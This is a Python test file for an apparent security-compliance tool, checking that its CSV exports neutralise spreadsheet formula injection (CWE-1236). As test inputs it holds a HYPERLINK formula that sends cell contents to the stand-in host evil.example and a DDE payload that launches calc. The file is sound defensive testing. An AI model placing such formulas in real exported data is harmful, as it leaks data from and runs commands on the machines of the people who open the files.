"""The CSV files an auditor opens in a spreadsheet hold no cell it would run as a formula (CWE-1236):
waiver reasons, branch names and notes come from the scanned repository."""

from __future__ import annotations

import csv
import io

import pytest

from guard import csvtext
from guard.compliance.render import controls_csv
from guard.evidence import export
from guard.evidence.bundle import waivers_csv
from guard.model import (Category, ControlResult, ControlStatus, Finding, Location, Rule, RunResult, Severity,
                         Waiver)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\n=1"])
def test_a_text_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
    assert cells(csvtext.dumps(["a", "b"], [[value, 7]]))[1] == [f"'{value}", "7"]


def test_a_carriage_return_in_a_cell_does_not_split_its_row() -> None:
    assert cells(csvtext.dumps(["a", "b"], [["\r=1", "x\r\ny\rz"], ["next", "row"]]))[1:] == \
        [["'\n=1", "x\ny\nz"], ["next", "row"]]


@pytest.mark.parametrize("value", [FORMULA, "-title", "@x", "'plain", "plain"])
def test_a_cell_read_back_holds_what_was_written(value: str) -> None:
    assert csvtext.value(cells(csvtext.dumps(["a"], [[value]]))[1][0]) == value


@pytest.mark.parametrize("value", ["plain", "a=b", "'=already text", "", "2026-11-30"])
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert cells(csvtext.dumps(["a"], [[value]]))[1] == [value]
    assert csvtext.cell(-1) == -1  # numbers are numbers


def test_the_controls_and_waivers_files_and_the_exports_change_records() -> None:
    control = ControlResult(framework="soc2", control_id="CC6.1", title="@title", status=ControlStatus.FAILED,
                            checks=("checkov:CKV_AWS_1",), note=FORMULA)
    assert cells(controls_csv([control]))[1][-1] == f"'{FORMULA}"
    finding = Finding(tool="bandit", rule=Rule("B101", "b", "-title", "f", "h"), message="m", severity=Severity.LOW,
                      category=Category.SAST, location=Location("=x.py", 1, 1), fingerprint="f1")
    waiver = Waiver(reason=FORMULA, owner="+owner", expires="2027-01-01", source="waivers.yaml:3")
    run = RunResult(target="/repo", started="s", finished="f", guard_version="1", scanners=(), findings=(),
                    waived=((finding, waiver),))
    row = dict(zip(*cells(waivers_csv(run))))
    assert (row["reason"], row["owner"], row["location"], row["title"]) == \
        (f"'{FORMULA}", "'+owner", "'=x.py:1", "'-title")
    pr = export._Run(entry={}, manifest={"run_id": "r1", "started": "s", "counts": {"findings": 1}, "gate": None,
                                          "git": {"pull_request": {"number": 7, "base": "main", "head": FORMULA}}})
    assert cells(export._changes([pr]).decode())[1][4] == f"'{FORMULA}"
